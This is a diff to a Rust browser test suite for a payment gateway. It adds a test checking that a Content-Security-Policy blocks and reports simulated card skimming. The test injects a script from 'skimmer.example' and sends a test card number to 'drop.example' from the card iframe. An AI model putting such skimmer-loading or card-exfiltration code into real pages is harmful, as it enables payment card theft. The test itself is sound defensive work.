@@ -3,7 +3,7 @@
 
 use serde_json::json;
 use thirtyfour::prelude::*;
-use tillgate_tests::{Browser, CardForm, Gateway, Merchant, Page, Proxy, Site, browse};
+use tillgate_tests::{Browser, CardForm, Gateway, Merchant, Page, Proxy, Site, browse, until};
 
 use crate::APPROVED;
 use crate::forms::click;
@@ -182,4 +182,47 @@ async fn challenge(shop: &Shop, browser: &Browser) -> anyhow::Result<()> {
     browser.query(By::Css("input[type=submit]")).first().await?.click().await?;
     browser.enter_default_frame().await?;
     shop.paid(browser, &checkout).await
+}
+
+#[tokio::test]
+async fn what_a_browser_stops_in_the_merchants_page_and_in_a_frame_is_reported() -> anyhow::Result<()> {
+    let (gateway, proxy) = Gateway::start_with_fields_host().await?;
+    let shop = Shop::open(&gateway, &proxy, &[]).await?;
+    let fields = &shop.fields;
+    shop.site.set_policy(&format!(
+        "default-src 'none'; script-src 'self' {{gateway}} 'wasm-unsafe-eval'; style-src 'self' {{gateway}}; img-src 'self' data:; \
+         frame-src {{gateway}} {fields}; form-action 'self'; report-uri {{gateway}}/v1/policyReports/{}",
+        shop.merchant.entity_id
+    ));
+    browse(move |browser| async move {
+        let _gateway = gateway;
+        shop.visit(&browser, "VISA", "", &[]).await?;
+        CardForm::ready(&browser).await?;
+        let load =
+            "const script = document.createElement('script'); script.src = 'https://skimmer.example/x.js?card=1';
+            document.head.append(script); return 1";
+        browser.execute(load, vec![]).await?;
+        browser.query(By::Css(tillgate_tests::card_form::NUMBER)).first().await?.enter_frame().await?;
+        let send = "fetch('https://drop.example/4200000000000000').catch(() => 0); return 1";
+        browser.execute(send, vec![]).await?;
+        browser.enter_default_frame().await?;
+        let wanted = [
+            ("script-src-elem", "https://skimmer.example", format!("{}pages/0", shop.site.public)),
+            ("connect-src", "https://drop.example", format!("{}/v1/pciIframe.html", shop.fields)),
+        ];
+        for (directive, blocked, document) in wanted {
+            until("the report", async || {
+                let reports = shop.merchant.get("v1/policyReports").await?.json["policyReports"].clone();
+                let found = reports.as_array().into_iter().flatten().any(|report| {
+                    report["directive"] == directive
+                        && report["blocked"] == blocked
+                        && report["document"] == document.as_str()
+                });
+                Ok(found.then_some(()))
+            })
+            .await?;
+        }
+        Ok(())
+    })
+    .await
 }
